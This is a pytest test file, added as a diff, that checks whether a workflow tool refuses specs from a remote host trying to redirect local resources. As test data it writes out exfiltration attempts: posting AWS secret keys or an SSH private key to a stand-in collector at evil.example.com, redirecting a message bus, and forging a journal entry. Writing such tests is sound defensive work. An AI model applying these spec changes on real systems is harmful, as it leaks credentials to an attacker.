@@ -1,0 +1,195 @@
+"""A run that was learned from its host: what the host writes there chooses nothing of this machine."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from tests.workflow.laptops import Laptop, another, standing
+from titan_flow.states.chain import GENESIS, line, sealed
+from titan_flow.states.events import Event, Record, RunStarted, TransitionBegan
+from titan_flow.workflow.errors import UserError
+from titan_flow.workflow.journal.location import open_journal
+from titan_flow.workflow.journal.parse import records_of
+from titan_flow.workflow.session.learned import agreed, difference, genuine, local
+from titan_flow.workflow.session.options import Options
+from titan_flow.workflow.specfile.load import load, loads
+from titan_flow.workflow.specfile.model import Spec
+
+OURS = """\
+flow: small
+target: {directory: /opt/small}
+nats: {url: "nats://bus.example.com", user: olga, password: {file: /home/olga/nats.password}}
+params: {reason: {default: test}}
+states:
+  Ready:  {initial: true}
+  Done:   {goal: true}
+  Halted: {rest: true, notify: true}
+defaults: {on_failure: Halted, on_unknown: Halted}
+transitions:
+  act:
+    from: Ready
+    to: Done
+    check: [{http.ok: {url: "https://app.example.com/health", ca: /home/olga/ca.pem}}]
+    do: [{command.run: {command: [touch, made], idempotent: true}}]
+notify: [{http.post: {url: {env: CHAT_HOOK}, body: "ended", idempotent: true}}]
+"""
+EVIL = "https://evil.example.com/collect"
+
+
+def spec(*changes: tuple[str, str], path: str = "flow.yaml") -> Spec:
+    text = OURS
+    for old, new in changes:
+        assert old in text
+        text = text.replace(old, new)
+    return loads(text, path)
+
+
+def asked(answer: bool, heard: list[str]) -> Options:
+    def ask(question: str) -> bool:
+        heard.append(question)
+        return answer
+
+    return Options(ask=ask, yes=True)
+
+
+@pytest.mark.parametrize(
+    ("change", "named"),
+    [
+        (("https://app.example.com/health", EVIL), EVIL),
+        (("{env: CHAT_HOOK}", "{env: AWS_SECRET_ACCESS_KEY}"), "$AWS_SECRET_ACCESS_KEY"),
+        (("{env: CHAT_HOOK}", "{file: /home/olga/.ssh/id_ed25519}"), "/home/olga/.ssh/id_ed25519"),
+        (("{env: CHAT_HOOK}", f'"{EVIL}"'), EVIL),
+        (("/home/olga/ca.pem", "/tmp/theirs.pem"), "/tmp/theirs.pem"),
+    ],
+)
+def test_what_only_the_hosts_spec_names_of_this_machine_is_refused_without_a_question(
+    change: tuple[str, str], named: str
+) -> None:
+    with pytest.raises(UserError) as refused:
+        agreed(spec(change), spec(), "7Q3FXY", Options(yes=True, host_spec=spec(change).sha256))
+    assert named in str(refused.value)
+    assert "force-unlock flow.yaml --run 7Q3FXY" in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        ("nats://bus.example.com", "nats://evil.example.com"),
+        ("{file: /home/olga/nats.password}", "{env: HOME}"),
+        ("user: olga", "user: root"),
+    ],
+)
+def test_where_and_as_whom_to_connect_is_taken_from_our_own_block(change: tuple[str, str]) -> None:
+    heard = list[str]()
+    found = agreed(spec(change), spec(), "7Q3FXY", asked(True, heard))
+    assert found.blocks["nats"] == spec().blocks["nats"]
+    assert len(heard) == 1
+    assert change[1].strip("{}") in heard[0], "the difference is shown"
+
+
+def test_a_block_that_ours_does_not_have_is_refused() -> None:
+    ours = spec((OURS.splitlines(keepends=True)[2], ""))
+    with pytest.raises(UserError, match="`nats:`"):
+        agreed(spec(), ours, "7Q3FXY", Options(yes=True, ask=lambda _: True))
+
+
+def test_a_difference_is_asked_about_and_yes_does_not_answer() -> None:
+    theirs, heard = spec(("touch, made", "touch, other")), list[str]()
+    assert agreed(theirs, spec(), "7Q3FXY", asked(True, heard)).flow == theirs.flow, "it obeys its own spec"
+    assert "-    do: [{command.run: {command: [touch, made]" in heard[0]
+    assert "+    do: [{command.run: {command: [touch, other]" in heard[0]
+    with pytest.raises(UserError, match="not confirmed"):
+        agreed(theirs, spec(), "7Q3FXY", asked(False, heard))
+    with pytest.raises(UserError, match=f"add --host-spec {theirs.sha256[:12]}"):
+        agreed(theirs, spec(), "7Q3FXY", Options(yes=True))
+    agreed(theirs, spec(), "7Q3FXY", Options(host_spec=theirs.sha256[:12]))
+    for wrong in (theirs.sha256[:11], spec().sha256[:12], ""):
+        with pytest.raises(UserError):
+            agreed(theirs, spec(), "7Q3FXY", Options(yes=True, host_spec=wrong))
+
+
+def test_the_same_spec_with_other_comments_or_another_name_of_the_host_is_no_question() -> None:
+    theirs = spec(("flow: small", "# theirs\nflow: small"), ("/opt/small", "/srv/small"))
+    assert agreed(theirs, spec(), "7Q3FXY", Options()).target == spec().target
+
+
+def test_a_long_difference_is_bounded() -> None:
+    theirs = replace(spec(), text="\n".join(f"line {n}" for n in range(900)))
+    assert len(difference(theirs, spec()).splitlines()) <= 42
+
+
+def test_every_place_of_this_machine_is_found() -> None:
+    assert local(spec(), all_blocks=True) >= {
+        "$CHAT_HOOK", "/home/olga/ca.pem", "https://app.example.com/health", "/home/olga/nats.password",
+        "nats://bus.example.com",
+    }  # fmt: skip
+
+
+def chained(run: str, first: Record, *events: Event) -> list[Record]:
+    records, head = list[Record](), GENESIS
+    for seq, event in enumerate(events, 1):
+        records.append(sealed(run, seq, first.at, event, head))
+        head = records[-1].hash
+    return records
+
+
+@pytest.fixture(scope="module")
+def olga(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Laptop]:
+    with standing(tmp_path_factory.mktemp("learned")) as laptop:
+        laptop.killed("append step.intended up/1")
+        yield laptop
+
+
+def copy(olga: Laptop) -> tuple[Path, list[Record]]:
+    """The host's file of her run, and what it holds."""
+    [path] = olga.mirror.glob(f"{olga.newest().id}.jsonl")
+    return path, records_of(path.read_text().splitlines(), "the host")
+
+
+@pytest.mark.daemon
+def test_arguments_that_the_host_made_up_are_refused(olga: Laptop) -> None:
+    path, records = copy(olga)
+    flow = load(olga.path)
+    genuine(flow, records, 1)
+    events = [record.event for record in records]
+    at = max(n for n, event in enumerate(events) if isinstance(event, TransitionBegan))
+    began = events[at]
+    assert isinstance(began, TransitionBegan)
+    forged = {step: {**args, "payload": {"type": "ARM_SYSTEM"}} for step, args in began.args.items()}
+    events[at] = began.model_copy(update={"args": forged})
+    false = chained(records[0].run, records[0], *events)
+    with pytest.raises(UserError, match=f"record {at + 1} of run"):
+        genuine(flow, false, 1)
+    genuine(flow, false, at + 2)  # what this journal wrote itself is its own
+    assert path.exists()
+
+
+@pytest.mark.daemon
+@pytest.mark.slow
+def test_a_forged_spec_on_the_host_gets_nothing_out_of_a_second_laptop(olga: Laptop) -> None:
+    path, records = copy(olga)
+    honest, ben = path.read_text(), another(olga, "ben")
+    started = records[0].event
+    assert isinstance(started, RunStarted)
+    text = started.spec.replace("policy.same", "http.ok: {url: https://evil.example.com/}\n    - policy.same", 1)
+    assert text != started.spec
+    forged = started.model_copy(update={"spec": text})
+    false = chained(records[0].run, records[0], forged, *(record.event for record in records[1:]))
+    path.write_text("".join(line(record) + "\n" for record in false))
+    try:
+        assert ben.titan("resume", ben.path, "--yes") == 3, ben.said
+        assert "evil.example.com" in ben.said
+        assert "not continued" in ben.said
+        assert ben.titan("rollback", ben.path, "--yes") == 3, ben.said
+        assert ben.titan("resume", records[0].run, "--yes") == 2, ben.said
+        assert "name your own spec" in ben.said
+        assert ben.titan("status", records[0].run) == 7, ben.said
+    finally:
+        path.write_text(honest)
+    assert not [r for r in open_journal(ben.store).read(records[0].run) if r.event.kind == "driver.took"][1:]
+    assert json.loads(honest.splitlines()[0])["kind"] == "run.started"
